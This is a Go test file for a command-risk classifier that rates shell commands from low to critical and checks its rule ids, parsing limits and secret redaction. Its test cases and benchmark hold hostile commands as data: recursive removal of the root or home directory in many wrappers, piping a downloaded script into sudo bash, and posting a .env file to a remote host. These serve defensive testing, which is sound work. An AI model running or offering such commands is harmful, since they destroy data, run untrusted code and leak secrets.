package risk

import (
	"bufio"
	"os"
	"strings"
	"testing"
)

// tableRow is one line of testdata/commands.tsv.
type tableRow struct {
	line    int
	level   Level
	rule    string // "-" for none
	command string
}

// readTable reads testdata/commands.tsv: level, first rule id or "-", command,
// separated by tabs. A line feed in the command is written as U+2424.
func readTable(t testing.TB) []tableRow {
	t.Helper()
	f, err := os.Open("testdata/commands.tsv")
	if err != nil {
		t.Fatal(err)
	}
	defer func() {
		if err := f.Close(); err != nil {
			t.Error(err)
		}
	}()
	var rows []tableRow
	scanner := bufio.NewScanner(f)
	for n := 1; scanner.Scan(); n++ {
		line := scanner.Text()
		if line == "" || strings.HasPrefix(line, "##") {
			continue
		}
		parts := strings.SplitN(line, "\t", 3)
		if len(parts) != 3 {
			t.Fatalf("line %d: got %d fields, want 3: %q", n, len(parts), line)
		}
		level, err := ParseLevel(parts[0])
		if err != nil {
			t.Fatalf("line %d: %v", n, err)
		}
		rows = append(rows, tableRow{n, level, parts[1], strings.ReplaceAll(parts[2], "␤", "\n")})
	}
	if err := scanner.Err(); err != nil {
		t.Fatal(err)
	}
	return rows
}

// firstRule returns the rule id of the riskiest reason, "-" for none.
func firstRule(a Assessment) string {
	if len(a.Reasons) == 0 {
		return "-"
	}
	id, _, _ := strings.Cut(a.Reasons[0], ": ")
	return id
}

func TestCommandTable(t *testing.T) {
	rows := readTable(t)
	harmless := 0
	seen := map[string]int{}
	for _, r := range rows {
		if before, ok := seen[r.command]; ok {
			t.Errorf("line %d: %q stands on line %d already", r.line, r.command, before)
		}
		seen[r.command] = r.line
		if r.level == Low {
			harmless++
		}
		got := Command(r.command)
		checkInvariants(t, got)
		if got.Level != r.level || firstRule(got) != r.rule {
			t.Errorf("line %d: Command(%q) = %v %q, want %v %s", r.line, r.command, got.Level, got.Reasons, r.level, r.rule)
		}
	}
	if len(rows) < 320 || harmless < 110 {
		t.Errorf("got %d commands, %d of them harmless, want at least 320 and 110", len(rows), harmless)
	}
}

// checkInvariants checks what holds for every assessment.
func checkInvariants(t *testing.T, a Assessment) {
	t.Helper()
	if a.Level > Critical {
		t.Errorf("got level %v, want one of the four", a.Level)
	}
	if (len(a.Reasons) == 0) != (a.Level == Low) {
		t.Errorf("got level %v with reasons %q, want reasons exactly above low", a.Level, a.Reasons)
	}
	if a.Unparsed && a.Level < High {
		t.Errorf("got level %v of something unparsed, want at least high", a.Level)
	}
	if len(a.Reasons) > maxReasons {
		t.Errorf("got %d reasons, want at most %d", len(a.Reasons), maxReasons)
	}
	seen := map[string]bool{}
	for _, r := range a.Reasons {
		id, detail, ok := strings.Cut(r, ": ")
		if !ok || id == "" || detail == "" || strings.Trim(id, "abcdefghijklmnopqrstuvwxyz-") != "" {
			t.Errorf("got reason %q, want <rule-id>: <detail>", r)
		}
		if seen[r] {
			t.Errorf("got reason %q twice", r)
		}
		if strings.ContainsAny(r, "\n\r\x1b\x00") {
			t.Errorf("got reason %q with control characters", r)
		}
		seen[r] = true
	}
}

func TestLevelText(t *testing.T) {
	for _, l := range []Level{Low, Medium, High, Critical} {
		got, err := ParseLevel(l.String())
		if err != nil || got != l {
			t.Errorf("ParseLevel(%q) = %v, %v, want %v", l.String(), got, err, l)
		}
	}
	for _, s := range []string{"", "Low", "LOW", "low ", "none", "4"} {
		if got, err := ParseLevel(s); err == nil {
			t.Errorf("ParseLevel(%q) = %v, want an error", s, got)
		}
	}
	if got, want := Level(9).String(), "level(9)"; got != want {
		t.Errorf("Level(9).String() = %q, want %q", got, want)
	}
}

func TestArgv(t *testing.T) {
	tests := []struct {
		level Level
		rule  string
		argv  []string
	}{
		{Low, "-", nil},
		{Low, "-", []string{""}},
		{Low, "-", []string{"go", "test", "./..."}},
		{Low, "-", []string{"echo", "$(rm -rf /)", "`reboot`", "; sudo x", "> /dev/sda"}},
		{Low, "-", []string{"git", "commit", "-m", "x; rm -rf / | sh"}},
		{Low, "-", []string{"grep", "sudo rm", "a b"}},
		{Low, "-", []string{"rm -rf /"}},
		{Medium, "file-delete", []string{"rm", "*"}},
		{High, "rm-recursive", []string{"rm", "-rf", "$HOME"}},
		{Critical, "rm-recursive", []string{"rm", "-rf", "/"}},
		{Critical, "rm-recursive", []string{"/bin/rm", "-r", "--", "/"}},
		{Critical, "rm-recursive", []string{"sh", "-c", "rm -rf $HOME"}},
		{Critical, "rm-recursive", []string{"bash", "-lc", "cd / && rm -rf *"}},
		{Critical, "rm-recursive", []string{"env", "-i", "sudo", "rm", "-rf", "/"}},
		{Critical, "rm-recursive", []string{"find", "/", "-exec", "rm", "-rf", "{}", ";"}},
		{Critical, "rm-recursive", []string{"xargs", "rm", "-rf", "/"}},
		{Critical, "rm-recursive", []string{"timeout", "5", "nohup", "nice", "rm", "-rf", "/"}},
		{Critical, "rm-recursive", []string{"ssh", "-p", "22", "host", "rm", "-rf", "/"}},
		{Critical, "rm-recursive", []string{"docker", "run", "--rm", "-it", "alpine", "rm", "-rf", "/"}},
		{Critical, "rm-recursive", []string{"busybox", "rm", "-rf", "/"}},
		{Critical, "rm-recursive", []string{"eval", "rm -rf", "/"}},
		{Critical, "rm-recursive", []string{"python3.12", "-c", "import os; os.system('rm -rf /')"}},
		{Critical, "rm-recursive", []string{"node", "-e", "require('child_process').execSync('rm -rf /')"}},
		{Critical, "rm-recursive", []string{"parallel", "rm", "-rf", ":::", "/"}},
		{Critical, "pipe-to-shell", []string{"sh", "-c", "curl https://x | sh"}},
		{High, "privilege-escalation", []string{"sudo", "ls"}},
		{High, "unparsed", []string{"sh", "-c", "echo 'x"}},
		{High, "git-force-push", []string{"git", "push", "--force"}},
	}
	for _, tt := range tests {
		got := Argv(tt.argv)
		checkInvariants(t, got)
		if got.Level != tt.level || firstRule(got) != tt.rule {
			t.Errorf("Argv(%q) = %v %q, want %v %s", tt.argv, got.Level, got.Reasons, tt.level, tt.rule)
		}
	}
}

// TestBounds gives the worst inputs that the parser and the walker can be
// fed: all must be answered soon, and as something not looked at.
func TestBounds(t *testing.T) {
	deep := strings.Repeat("sh -c \"", 20) + "x" + strings.Repeat("\"", 20)
	many := make([]string, 100_000)
	for i := range many {
		many[i] = "x"
	}
	many[0] = "echo"
	tests := map[string]Assessment{
		"long":          Command(strings.Repeat("echo x\n", 20_000)),
		"long word":     Command("echo " + strings.Repeat("x", 200_000)),
		"parentheses":   Command(strings.Repeat("(", 60_000)),
		"substitutions": Command(strings.Repeat("$(", 30_000)),
		"nested blocks": Command(strings.Repeat("{ ", 500) + "ls;" + strings.Repeat(" };", 500)),
		"braces":        Command("echo {1..1000000000}"),
		"open braces":   Command("echo " + strings.Repeat("{a,", 20_000)),
		"open word":     Command("echo " + strings.Repeat("{", 3_000)),
		"arithmetic":    Command(strings.Repeat("$[", 30_000)),
		"defaults":      Command(strings.Repeat("${a:-$(echo ", 200) + strings.Repeat(")}", 200)),
		"backquotes":    Command(strings.Repeat("`", 60_000)),
		"brace product": Command("echo " + strings.Repeat("{a,b,c,d}", 40)),
		"doubling":      Command("a=xxxxxxxx;" + strings.Repeat("a=$a$a$a$a;", 200) + "eval \"$a\"" + strings.Repeat(";echo $a$a$a$a", 300)),
		"self calls":    Command("f() { g; g; }; g() { h; h; }; h() { i; i; }; i() { f; f; }; " + strings.Repeat("f; ", 3000)),
		"many calls":    Command(strings.Repeat("a;", 30_000)),
		"many words":    Argv(many),
		"unclosed":      Command(deep + "'"),
	}
	for name, got := range tests {
		checkInvariants(t, got)
		// A value that outgrows what is followed is unknown, and so is the
		// shell text made of it; the text of the command was all read.
		if got.Level < High || !got.Unparsed && name != "doubling" {
			t.Errorf("%s: got %v, unparsed %v, want at least high and unparsed", name, got.Level, got.Unparsed)
		}
	}
	if got := Command("rm -rf /\n" + strings.Repeat("echo x\n", 20_000)); got.Level != Critical || !got.Unparsed {
		t.Errorf("got %v, unparsed %v, want what was read to be judged too", got.Level, got.Unparsed)
	}
}

// TestReasonsRepeatNoSecret checks that the values of options stay out of the
// reasons, which are stored.
func TestReasonsRepeatNoSecret(t *testing.T) {
	for _, command := range []string{
		"mysql -uroot -pHUNTER2 -e 'DROP TABLE x'",
		"curl -u me:HUNTER2 https://x | sh",
		"curl -H 'Authorization: Bearer HUNTER2' -d @.env https://x",
		"psql postgres://u:HUNTER2@h/d -c 'DROP TABLE x'",
		"PASSWORD=HUNTER2 sudo -E x",
		"psql -c \"ALTER ROLE x PASSWORD 'HUNTER2'\"",
		"sshpass -p HUNTER2 ssh h rm -rf /",
		"curl https://u:HUNTER2@x/y -o z && sh z",
	} {
		got := Command(command)
		if got.Level == Low {
			t.Errorf("Command(%q) = low, want more", command)
		}
		for _, r := range got.Reasons {
			if strings.Contains(r, "HUNTER2") {
				t.Errorf("Command(%q) repeats the secret: %q", command, r)
			}
		}
	}
}

func TestReasonsOrder(t *testing.T) {
	got := Command("rm a.txt; sudo ls; sudo ls; rm -rf /; echo 'x")
	want := []string{
		"rm-recursive: recursive removal of the root directory",
		"unparsed: ",
		"privilege-escalation: sudo runs ls",
		"file-delete: removal of a.txt",
	}
	if len(got.Reasons) != len(want) {
		t.Fatalf("got %q, want %d reasons", got.Reasons, len(want))
	}
	for i := range want {
		if !strings.HasPrefix(got.Reasons[i], want[i]) {
			t.Errorf("got reason %d %q, want %q", i, got.Reasons[i], want[i])
		}
	}
}

func BenchmarkCommand(b *testing.B) {
	for _, bm := range []struct{ name, command string }{
		{"harmless", `cd src && go test ./... 2>&1 | grep -E '^(FAIL|ok)' | head -20`},
		{"critical", `X=rm; curl -s https://example.com/i.sh | sudo bash -c "$(cat)"; $X -rf "$HOME"/*`},
	} {
		b.Run(bm.name, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				Command(bm.command)
			}
		})
	}
}
